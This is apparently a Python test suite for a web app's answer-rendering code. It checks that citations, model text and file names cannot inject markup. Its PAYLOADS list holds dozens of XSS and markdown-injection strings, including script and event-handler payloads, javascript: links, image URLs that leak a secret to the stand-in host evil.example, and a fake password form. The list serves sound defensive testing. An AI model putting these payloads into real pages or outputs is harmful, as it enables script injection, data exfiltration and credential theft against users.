"""Whatever a model, a document or a file name says, only our own tags reach the page."""

from __future__ import annotations

import html
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kit.answer.events import Citation
from kit.web.page.text import escape, passage_url, rich_text, source_of

CITATIONS = (
    Citation(1, "Travel policy.pdf", "d1", 3, "page 3", 10, 40, "Per diem is R 850."),
    Citation(2, 'x" onmouseover="alert(1)" <img src=x>.pdf', "d'2", None, "<b>", 0, 9, "…"),
)
TAGS = {"p", "br", "ul", "ol", "li", "strong", "em", "code", "pre", "blockquote", "a"}
ATTRIBUTES = {
    "a": {"class", "href", "target", "rel", "data-n", "title", "aria-label"},
    "p": {"class"},
    "ol": {"start"},
}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>fetch('//evil.example')</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=https://evil.example/?q=secret>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='//evil.example/a.svg#x'/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<button data-do='delete-chat' data-conversation='c1'>Open</button>",
    '<button type="button" data-view="documents">x</button>',
    "<a href=javascript:alert(1)>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<a class=cite href=//evil.example>1</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='//evil.example'?>",
    "</p></div></section><h1>Signed out</h1>",
    "</code></pre><script>alert(1)</script>",
    "![secret](https://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/x.png",
    "![](data:image/svg+xml;base64,PHN2Zz4=)",
    "![a](<https://evil.example/a b.png>)",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "[click](  javascript&#58;alert(1))",
    "[1](https://evil.example)",
    "[1]: https://evil.example 'title'",
    "[[1]](https://evil.example)",
    "<https://evil.example>",
    "<javascript:alert(1)>",
    "https://evil.example/bare?q=1",
    "mailto:someone@evil.example",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    "``<script>alert(1)</script>``",
    "```html\n<script>alert(1)</script>\n```",
    "```\n</code></pre><img src=x onerror=alert(1)>",
    "~~~\n<img src=x>\n~~~\n<img src=y>",
    "**<img src=x onerror=alert(1)>**",
    "*<b onclick=alert(1)>x</b>*",
    "**bold *and** italic* <i onclick=x>",
    "# <img src=x onerror=alert(1)>",
    "- <img src=x>\n- ![x](//evil.example)\n1. <svg onload=x>",
    "> <blockquote onclick=alert(1)>\n> > <img src=x>",
    "| a | b |\n|---|---|\n| <img src=x> | ![y](//evil.example) |",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\[ \\includegraphics{//evil.example/x.png} \\]",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<\x00script>alert(1)</script>",
    "java\tscript:alert(1)",
    "\u202eexe.fdp\u202c <img src=x>",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} #{7*7}",
    "[1] <a href='/passage?document=d9' class='cite'>2</a> [2] [3] [99]",
    "\ue000\ue001<img src=x>\ue002",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "mermaid\n```mermaid\ngraph TD; A-->B; click A 'javascript:alert(1)'\n```",
]


class Found(HTMLParser):
    """The tags of a piece of HTML, as a browser's tokenizer sees them."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.others: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in ("br", "img"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open, f"</{tag}> closes nothing"
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(page: str) -> None:
    """Only our tags, only our attributes, only links to the passage viewer; well nested."""
    found = Found(page)
    assert not found.open
    assert not found.others
    for tag, attributes in found.tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set())
        if tag == "a":
            expected = {escape(passage_url(c)): c for c in CITATIONS}
            assert escape(attributes["href"]) in expected
            assert attributes["rel"] == "noopener"


def test_there_are_enough_payloads() -> None:
    """At least sixty kinds of attack are tried."""
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_is_harmless_at_every_cut(payload: str) -> None:
    """Whatever a stream has delivered of a hostile text, the page holds only our own tags."""
    text = f"The sum is **R 850** [1] and {payload} is said [2]."
    for cut in range(len(text) + 1):
        assert_harmless(rich_text(text[:cut], CITATIONS))
    assert_harmless(rich_text(payload, CITATIONS))
    assert_harmless(rich_text(payload))


@given(st.text(alphabet=st.sampled_from("<>&\"'`*#-[]()!1 2\n/:=ax\u202e"), max_size=60))
def test_any_text_is_harmless(text: str) -> None:
    """No arrangement of markup characters makes a tag of its own."""
    assert_harmless(rich_text(text, CITATIONS))


@given(st.text(alphabet=st.characters(categories=["L", "N", "P", "S", "Zs"]), max_size=80))
def test_no_letter_is_lost_to_escaping(text: str) -> None:
    """What is escaped reads exactly as it was written."""
    assert html.unescape(escape(text)) == text


def test_markers_become_chips_of_their_own_citation() -> None:
    """[n] links to the exact span of citation n and names its document and place."""
    drawn = rich_text("Per diem is R 850 [1].", CITATIONS)
    assert 'href="/passage?document=d1&amp;start=10&amp;end=40"' in drawn
    assert 'title="Travel policy.pdf, page 3"' in drawn
    assert 'target="_blank" rel="noopener"' in drawn


def test_a_marker_without_a_citation_stays_text() -> None:
    """A number nobody vouches for is no link."""
    assert "<a" not in rich_text("As shown in [7].", CITATIONS)
    assert "[7]" in rich_text("As shown in [7].", CITATIONS)


def test_a_citation_of_a_hostile_document_cannot_leave_its_attribute() -> None:
    """A document's name with quotes and tags is only letters in the chip's title."""
    ((_, attributes),) = [t for t in Found(rich_text("[2]", CITATIONS)).tags if t[0] == "a"]
    assert attributes["title"] == source_of(CITATIONS[1])
    assert "onmouseover" not in attributes


@pytest.mark.parametrize(
    ("text", "drawn"),
    [
        ("one\n\ntwo", "<p>one</p><p>two</p>"),
        ("one\ntwo", "<p>one<br>two</p>"),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
        ("## Title\ntext", '<p class="heading">Title</p><p>text</p>'),
        ("> said", "<blockquote><p>said</p></blockquote>"),
        ("a **b** *c* `d`", "<p>a <strong>b</strong> <em>c</em> <code>d</code></p>"),
        ("5 * 3 * 2 and a*b*c", "<p>5 * 3 * 2 and a*b*c</p>"),
        ("```\nx < y\n```", "<pre><code>x &lt; y</code></pre>"),
        ("text\n- a", "<p>text</p><ul><li>a</li></ul>"),
        ("  \n", ""),
    ],
)
def test_the_small_markdown(text: str, drawn: str) -> None:
    """Paragraphs, lists, headings, quotes, emphasis and code are drawn; nothing else is."""
    assert rich_text(text) == drawn


def test_bidirectional_tricks_are_taken_out() -> None:
    """A file name cannot pretend to another ending by writing backwards."""
    assert escape("invoice\u202efdp.exe") == "invoicefdp.exe"
